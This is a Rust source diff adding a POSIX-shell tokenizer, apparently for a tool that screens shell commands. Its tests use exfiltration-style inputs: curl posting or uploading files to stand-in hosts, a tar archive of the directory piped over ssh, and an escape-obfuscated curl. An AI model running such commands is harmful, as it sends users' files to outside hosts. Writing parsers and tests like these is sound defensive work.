@@ -1,0 +1,658 @@
+//! A small POSIX-shell tokenizer: enough of the grammar to turn a command
+//! string into simple commands (argv lists) joined by `&& || ; | &`, with
+//! quoting, escapes, comments, redirects, heredocs, subshells and command
+//! substitutions (parsed recursively), and variables assigned earlier in the
+//! same string substituted.
+//!
+//! It never fails: what it cannot understand it reports in
+//! [`Parsed::problems`], and parses the rest.
+
+use std::collections::HashMap;
+
+/// Nesting limit for `$(…)`, backticks, `bash -c`, `eval`: deeper input is
+/// reported as a problem instead of recursing.
+pub(crate) const MAX_DEPTH: usize = 8;
+/// At most this many simple commands are kept per input.
+const MAX_COMMANDS: usize = 512;
+/// At most this many words per simple command.
+const MAX_WORDS: usize = 4096;
+
+/// How a simple command's standard input is fed.
+#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
+pub(crate) enum Stdin {
+    /// Inherited (nothing visible feeds it).
+    #[default]
+    Inherited,
+    /// From the previous command in a pipeline.
+    Pipe,
+    /// From a file redirect, heredoc or here-string.
+    Redirect,
+}
+
+/// One redirect: operator and target word.
+#[derive(Clone, Debug, Eq, PartialEq)]
+pub(crate) struct Redirect {
+    pub(crate) op: String,
+    pub(crate) target: String,
+}
+
+/// A simple command: words after quote removal, its redirects and how its
+/// stdin is fed.
+#[derive(Clone, Debug, Default, Eq, PartialEq)]
+pub(crate) struct SimpleCommand {
+    pub(crate) words: Vec<String>,
+    pub(crate) redirects: Vec<Redirect>,
+    pub(crate) stdin: Stdin,
+    /// Heredoc or here-string bodies fed to stdin (scanned for one-liners).
+    pub(crate) stdin_text: Vec<String>,
+    /// Whether the command's stdout goes to the next command of a pipeline.
+    pub(crate) pipes_out: bool,
+}
+
+/// The result of tokenizing a command string.
+#[derive(Clone, Debug, Default)]
+pub(crate) struct Parsed {
+    /// Simple commands in order, including those found inside substitutions.
+    pub(crate) commands: Vec<SimpleCommand>,
+    /// What could not be understood (unterminated quote, too deep, …).
+    pub(crate) problems: Vec<String>,
+}
+
+/// Tokenize `input`.
+pub(crate) fn parse(input: &str) -> Parsed {
+    let mut out = Parsed::default();
+    let mut vars = HashMap::new();
+    parse_into(input, 0, &mut out, &mut vars);
+    out
+}
+
+/// Tokenize `input` into `out`, with variables already known.
+pub(crate) fn parse_into(
+    input: &str,
+    depth: usize,
+    out: &mut Parsed,
+    vars: &mut HashMap<String, String>,
+) {
+    if depth > MAX_DEPTH {
+        out.problems.push("nesting too deep".into());
+        return;
+    }
+    let mut p = Parser {
+        chars: input.chars().collect(),
+        pos: 0,
+        depth,
+        out,
+        vars,
+        pending_heredocs: Vec::new(),
+    };
+    p.run();
+}
+
+struct Parser<'a> {
+    chars: Vec<char>,
+    pos: usize,
+    depth: usize,
+    out: &'a mut Parsed,
+    vars: &'a mut HashMap<String, String>,
+    /// (delimiter, strip tabs, index of the command it feeds)
+    pending_heredocs: Vec<(String, usize)>,
+}
+
+impl Parser<'_> {
+    fn peek(&self) -> Option<char> {
+        self.chars.get(self.pos).copied()
+    }
+    fn peek_at(&self, k: usize) -> Option<char> {
+        self.chars.get(self.pos + k).copied()
+    }
+
+    fn run(&mut self) {
+        let mut cmd = SimpleCommand::default();
+        let mut next_stdin = Stdin::Inherited;
+        cmd.stdin = next_stdin;
+        loop {
+            self.skip_blanks();
+            let Some(c) = self.peek() else { break };
+            match c {
+                '#' => {
+                    while let Some(c) = self.peek() {
+                        if c == '\n' {
+                            break;
+                        }
+                        self.pos += 1;
+                    }
+                }
+                '\n' => {
+                    self.pos += 1;
+                    self.finish(&mut cmd, false);
+                    self.read_heredoc_bodies();
+                    next_stdin = Stdin::Inherited;
+                    cmd.stdin = next_stdin;
+                }
+                ';' | '&' | '|' | '(' | ')' => {
+                    self.pos += 1;
+                    let mut piped = false;
+                    if c == '|' {
+                        if self.peek() == Some('|') {
+                            self.pos += 1;
+                        } else {
+                            if self.peek() == Some('&') {
+                                self.pos += 1;
+                            }
+                            piped = true;
+                        }
+                    } else if c == '&' {
+                        if self.peek() == Some('&') {
+                            self.pos += 1;
+                        } else if self.peek() == Some('>') {
+                            // `&>file`: redirect both streams.
+                            self.pos += 1;
+                            if self.peek() == Some('>') {
+                                self.pos += 1;
+                            }
+                            self.skip_blanks();
+                            let target = self.word().unwrap_or_default();
+                            cmd.redirects.push(Redirect {
+                                op: "&>".into(),
+                                target,
+                            });
+                            continue;
+                        }
+                    } else if c == ';' && self.peek() == Some(';') {
+                        self.pos += 1;
+                    }
+                    self.finish(&mut cmd, piped);
+                    next_stdin = if piped { Stdin::Pipe } else { Stdin::Inherited };
+                    cmd.stdin = next_stdin;
+                }
+                '<' | '>' => self.redirect(&mut cmd, None),
+                _ => {
+                    // A digit directly before `<`/`>` is a file descriptor.
+                    if c.is_ascii_digit() && matches!(self.peek_at(1), Some('<') | Some('>')) {
+                        self.pos += 1;
+                        self.redirect(&mut cmd, Some(c));
+                        continue;
+                    }
+                    if let Some(w) = self.word() {
+                        if cmd.words.len() < MAX_WORDS {
+                            cmd.words.push(w);
+                        }
+                    }
+                }
+            }
+        }
+        self.finish(&mut cmd, false);
+        self.read_heredoc_bodies();
+    }
+
+    fn skip_blanks(&mut self) {
+        while let Some(c) = self.peek() {
+            if c == ' ' || c == '\t' || c == '\r' {
+                self.pos += 1;
+            } else if c == '\\' && self.peek_at(1) == Some('\n') {
+                self.pos += 2;
+            } else {
+                break;
+            }
+        }
+    }
+
+    fn finish(&mut self, cmd: &mut SimpleCommand, piped: bool) {
+        let mut done = std::mem::take(cmd);
+        done.pipes_out = piped;
+        // Leading NAME=value words are assignments: remember them.
+        let mut assigned_only = true;
+        for w in &done.words {
+            match split_assignment(w) {
+                Some((name, value)) => {
+                    if self.vars.len() < 256 {
+                        self.vars.insert(name.to_owned(), value.to_owned());
+                    }
+                }
+                None => {
+                    assigned_only = false;
+                    break;
+                }
+            }
+        }
+        if done.words.is_empty() && done.redirects.is_empty() {
+            return;
+        }
+        if assigned_only && done.redirects.is_empty() {
+            return;
+        }
+        if self.out.commands.len() < MAX_COMMANDS {
+            self.out.commands.push(done);
+        }
+    }
+
+    fn redirect(&mut self, cmd: &mut SimpleCommand, fd: Option<char>) {
+        let mut op = String::new();
+        if let Some(d) = fd {
+            op.push(d);
+        }
+        let first = self.peek().unwrap_or('>');
+        self.pos += 1;
+        op.push(first);
+        // Process substitution `<(…)` / `>(…)`.
+        if self.peek() == Some('(') && fd.is_none() {
+            self.pos += 1;
+            let inner = self.until_close_paren();
+            self.nested(&inner);
+            return;
+        }
+        while let Some(c) = self.peek() {
+            if c == '<' || c == '>' || c == '&' || c == '|' || c == '-' {
+                // `<<`, `<<<`, `<<-`, `>>`, `>&`, `>|`.
+                if c == '-' && !op.ends_with("<<") {
+                    break;
+                }
+                if c == '&' && !(op.ends_with('>') || op.ends_with('<')) {
+                    break;
+                }
+                op.push(c);
+                self.pos += 1;
+                if op.len() > 4 {
+                    break;
+                }
+            } else {
+                break;
+            }
+        }
+        self.skip_blanks();
+        let target = self.word().unwrap_or_default();
+        let is_input = op.contains('<') && !op.contains('>');
+        if op.ends_with("<<") || op.ends_with("<<-") {
+            self.pending_heredocs
+                .push((target.clone(), self.out.commands.len()));
+            cmd.stdin = Stdin::Redirect;
+        } else if op.ends_with("<<<") {
+            cmd.stdin = Stdin::Redirect;
+            cmd.stdin_text.push(target.clone());
+        } else if is_input {
+            cmd.stdin = Stdin::Redirect;
+        }
+        cmd.redirects.push(Redirect { op, target });
+    }
+
+    /// Heredoc bodies follow the line that introduced them.
+    fn read_heredoc_bodies(&mut self) {
+        let pending = std::mem::take(&mut self.pending_heredocs);
+        for (delim, cmd_index) in pending {
+            let mut body = String::new();
+            let mut found = false;
+            while self.pos < self.chars.len() {
+                let start = self.pos;
+                while self.pos < self.chars.len() && self.chars[self.pos] != '\n' {
+                    self.pos += 1;
+                }
+                let line: String = self.chars[start..self.pos].iter().collect();
+                if self.pos < self.chars.len() {
+                    self.pos += 1;
+                }
+                if line.trim() == delim {
+                    found = true;
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            if !found && !body.is_empty() {
+                self.out
+                    .problems
+                    .push(format!("heredoc `{delim}` is not terminated"));
+            }
+            if let Some(cmd) = self.out.commands.get_mut(cmd_index) {
+                cmd.stdin_text.push(body);
+            }
+        }
+    }
+
+    fn until_close_paren(&mut self) -> String {
+        let mut depth = 1usize;
+        let mut inner = String::new();
+        let mut quote: Option<char> = None;
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match quote {
+                Some(q) => {
+                    if c == q {
+                        quote = None;
+                    } else if c == '\\' && q == '"' {
+                        inner.push(c);
+                        if let Some(n) = self.peek() {
+                            self.pos += 1;
+                            inner.push(n);
+                        }
+                        continue;
+                    }
+                }
+                None => match c {
+                    '\'' | '"' => quote = Some(c),
+                    '(' => depth += 1,
+                    ')' => {
+                        depth -= 1;
+                        if depth == 0 {
+                            return inner;
+                        }
+                    }
+                    _ => {}
+                },
+            }
+            inner.push(c);
+        }
+        self.out.problems.push("unterminated `$(`".into());
+        inner
+    }
+
+    fn nested(&mut self, inner: &str) {
+        let depth = self.depth + 1;
+        let mut sub = Parsed::default();
+        let mut vars = self.vars.clone();
+        parse_into(inner, depth, &mut sub, &mut vars);
+        for c in sub.commands {
+            if self.out.commands.len() < MAX_COMMANDS {
+                self.out.commands.push(c);
+            }
+        }
+        self.out.problems.extend(sub.problems);
+    }
+
+    /// Read one word with quote removal, substitution of known variables and
+    /// recursive parsing of command substitutions.
+    fn word(&mut self) -> Option<String> {
+        let mut w = String::new();
+        let mut any = false;
+        while let Some(c) = self.peek() {
+            match c {
+                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => {
+                    // `(` right after `=` or `$` is handled below; here it ends the word.
+                    break;
+                }
+                '\\' => {
+                    self.pos += 1;
+                    match self.peek() {
+                        Some('\n') => self.pos += 1,
+                        Some(n) => {
+                            self.pos += 1;
+                            w.push(n);
+                        }
+                        None => {}
+                    }
+                    any = true;
+                }
+                '\'' => {
+                    self.pos += 1;
+                    let start = self.pos;
+                    while self.peek().is_some_and(|c| c != '\'') {
+                        self.pos += 1;
+                    }
+                    w.extend(&self.chars[start..self.pos]);
+                    if self.peek().is_none() {
+                        self.out.problems.push("unterminated single quote".into());
+                    } else {
+                        self.pos += 1;
+                    }
+                    any = true;
+                }
+                '"' => {
+                    self.pos += 1;
+                    self.double_quoted(&mut w);
+                    any = true;
+                }
+                '`' => {
+                    self.pos += 1;
+                    let start = self.pos;
+                    while self.peek().is_some_and(|c| c != '`') {
+                        self.pos += 1;
+                    }
+                    let inner: String = self.chars[start..self.pos].iter().collect();
+                    if self.peek().is_none() {
+                        self.out.problems.push("unterminated backtick".into());
+                    } else {
+                        self.pos += 1;
+                    }
+                    self.nested(&inner);
+                    w.push_str("$(…)");
+                    any = true;
+                }
+                '$' => {
+                    self.dollar(&mut w);
+                    any = true;
+                }
+                _ => {
+                    self.pos += 1;
+                    w.push(c);
+                    any = true;
+                }
+            }
+        }
+        any.then_some(w)
+    }
+
+    fn double_quoted(&mut self, w: &mut String) {
+        while let Some(c) = self.peek() {
+            match c {
+                '"' => {
+                    self.pos += 1;
+                    return;
+                }
+                '\\' => {
+                    self.pos += 1;
+                    if let Some(n) = self.peek() {
+                        self.pos += 1;
+                        if matches!(n, '"' | '\\' | '$' | '`') {
+                            w.push(n);
+                        } else if n != '\n' {
+                            w.push('\\');
+                            w.push(n);
+                        }
+                    }
+                }
+                '$' => self.dollar(w),
+                '`' => {
+                    self.pos += 1;
+                    let start = self.pos;
+                    while self.peek().is_some_and(|c| c != '`') {
+                        self.pos += 1;
+                    }
+                    let inner: String = self.chars[start..self.pos].iter().collect();
+                    if self.peek().is_some() {
+                        self.pos += 1;
+                    }
+                    self.nested(&inner);
+                    w.push_str("$(…)");
+                }
+                _ => {
+                    self.pos += 1;
+                    w.push(c);
+                }
+            }
+        }
+        self.out.problems.push("unterminated double quote".into());
+    }
+
+    fn dollar(&mut self, w: &mut String) {
+        self.pos += 1; // the `$`
+        match self.peek() {
+            Some('(') => {
+                self.pos += 1;
+                if self.peek() == Some('(') {
+                    // Arithmetic `$((…))`: keep literally.
+                    self.pos += 1;
+                    let inner = self.until_close_paren();
+                    if self.peek() == Some(')') {
+                        self.pos += 1;
+                    }
+                    w.push_str("$((");
+                    w.push_str(&inner);
+                    w.push_str("))");
+                    return;
+                }
+                let inner = self.until_close_paren();
+                self.nested(&inner);
+                w.push_str("$(…)");
+            }
+            Some('{') => {
+                self.pos += 1;
+                let start = self.pos;
+                while self.peek().is_some_and(|c| c != '}') {
+                    self.pos += 1;
+                }
+                let inner: String = self.chars[start..self.pos].iter().collect();
+                if self.peek().is_some() {
+                    self.pos += 1;
+                }
+                let name: String = inner
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .collect();
+                match self.vars.get(&name) {
+                    Some(v) if name.len() == inner.len() => w.push_str(v),
+                    _ => {
+                        w.push_str("${");
+                        w.push_str(&inner);
+                        w.push('}');
+                    }
+                }
+            }
+            Some('\'') => {
+                // ANSI-C quoting `$'…'`.
+                self.pos += 1;
+                self.ansi_c(w);
+            }
+            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
+                let start = self.pos;
+                while self
+                    .peek()
+                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
+                {
+                    self.pos += 1;
+                }
+                let name: String = self.chars[start..self.pos].iter().collect();
+                match self.vars.get(&name) {
+                    Some(v) => w.push_str(v),
+                    None => {
+                        w.push('$');
+                        w.push_str(&name);
+                    }
+                }
+            }
+            _ => w.push('$'),
+        }
+    }
+
+    fn ansi_c(&mut self, w: &mut String) {
+        while let Some(c) = self.peek() {
+            self.pos += 1;
+            match c {
+                '\'' => return,
+                '\\' => {
+                    let Some(n) = self.peek() else { break };
+                    self.pos += 1;
+                    match n {
+                        'n' => w.push('\n'),
+                        't' => w.push('\t'),
+                        'x' => {
+                            let mut v = 0u32;
+                            let mut k = 0;
+                            while k < 2 && self.peek().is_some_and(|c| c.is_ascii_hexdigit()) {
+                                v = v * 16 + self.peek().and_then(|c| c.to_digit(16)).unwrap_or(0);
+                                self.pos += 1;
+                                k += 1;
+                            }
+                            if let Some(ch) = char::from_u32(v) {
+                                w.push(ch);
+                            }
+                        }
+                        '0'..='7' => {
+                            let mut v = n.to_digit(8).unwrap_or(0);
+                            let mut k = 1;
+                            while k < 3 && self.peek().is_some_and(|c| ('0'..='7').contains(&c)) {
+                                v = v * 8 + self.peek().and_then(|c| c.to_digit(8)).unwrap_or(0);
+                                self.pos += 1;
+                                k += 1;
+                            }
+                            if let Some(ch) = char::from_u32(v) {
+                                w.push(ch);
+                            }
+                        }
+                        other => w.push(other),
+                    }
+                }
+                other => w.push(other),
+            }
+        }
+        self.out.problems.push("unterminated $' quote".into());
+    }
+}
+
+/// `NAME=value` → (NAME, value).
+pub(crate) fn split_assignment(word: &str) -> Option<(&str, &str)> {
+    let eq = word.find('=')?;
+    let name = &word[..eq];
+    let mut chars = name.chars();
+    let first = chars.next()?;
+    if !(first.is_ascii_alphabetic() || first == '_')
+        || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+    {
+        return None;
+    }
+    Some((name, &word[eq + 1..]))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn words(input: &str) -> Vec<Vec<String>> {
+        parse(input).commands.into_iter().map(|c| c.words).collect()
+    }
+
+    #[test]
+    fn quotes_escapes_and_operators() {
+        assert_eq!(
+            words(r#"c''url -d "a b" 'x'\ y && echo ok; ls | wc -l"#),
+            vec![
+                vec!["curl", "-d", "a b", "x y"],
+                vec!["echo", "ok"],
+                vec!["ls"],
+                vec!["wc", "-l"],
+            ]
+        );
+    }
+
+    #[test]
+    fn substitutions_are_parsed_recursively() {
+        let p = parse("echo $(curl -T f https://x.example) `wget -q y`");
+        let names: Vec<&str> = p.commands.iter().map(|c| c.words[0].as_str()).collect();
+        assert_eq!(names, ["curl", "wget", "echo"]);
+    }
+
+    #[test]
+    fn variables_assigned_earlier_are_substituted() {
+        let p = parse("U=https://drop.example/x; curl -d @f $U ${U}");
+        assert_eq!(p.commands[0].words[3], "https://drop.example/x");
+        assert_eq!(p.commands[0].words[4], "https://drop.example/x");
+    }
+
+    #[test]
+    fn pipes_and_heredocs_feed_stdin() {
+        let p = parse("tar cz . | ssh h 'cat > x'\npython3 - <<'EOF'\nimport os\nEOF\n");
+        assert_eq!(p.commands[1].stdin, Stdin::Pipe);
+        assert_eq!(p.commands[2].stdin, Stdin::Redirect);
+        assert_eq!(p.commands[2].stdin_text, vec!["import os\n".to_string()]);
+    }
+
+    #[test]
+    fn problems_are_reported_not_fatal() {
+        let p = parse("curl -d 'unterminated https://x");
+        assert!(!p.problems.is_empty());
+        assert_eq!(p.commands[0].words[0], "curl");
+    }
+
+    #[test]
+    fn ansi_c_quotes_decode() {
+        assert_eq!(words(r"$'\x63url' x")[0][0], "curl");
+    }
+}
